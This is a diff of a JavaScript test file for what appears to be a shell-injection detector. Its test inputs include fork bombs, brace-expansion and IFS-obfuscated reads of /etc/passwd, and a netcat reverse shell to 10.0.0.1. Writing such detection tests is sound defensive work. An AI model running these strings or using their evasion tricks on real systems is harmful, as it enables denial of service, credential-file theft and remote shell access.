@@ -22,3 +22,9 @@ describe('a shell function defined and then run by name', () => {
   flags(['g(){ g|g& };g', 'boom() { boom | boom & }; boom', ':(){ :|:& };:', 'run(){ id; }\nrun']);
   leaves(['function f(){ return 1 }; f()', 'f(){ x }; g', 'const o = { m(){ return 1 } }; m', 'f() {}', 'main(){ }; main(argc)']);
 });
+
+describe('a brace followed by a blank opens a group or a code block, not a brace expansion', () => {
+  flags(['{cat,/etc/passwd}', ';{cat,/etc/passwd}', '{${IFS}cat,/etc/passwd}', 'x|{nc,-e,/bin/sh,10.0.0.1,4444}', '{,/b??/?at,/etc/hosts}']);
+  leaves(["import { rename, stat } from 'node:fs';", '// const { host, hostname, protocol, port } = connectParams', 'const { cat, dog } = pets;',
+    'import {\n  rename,\n  stat,\n} from "node:fs"']);
+});
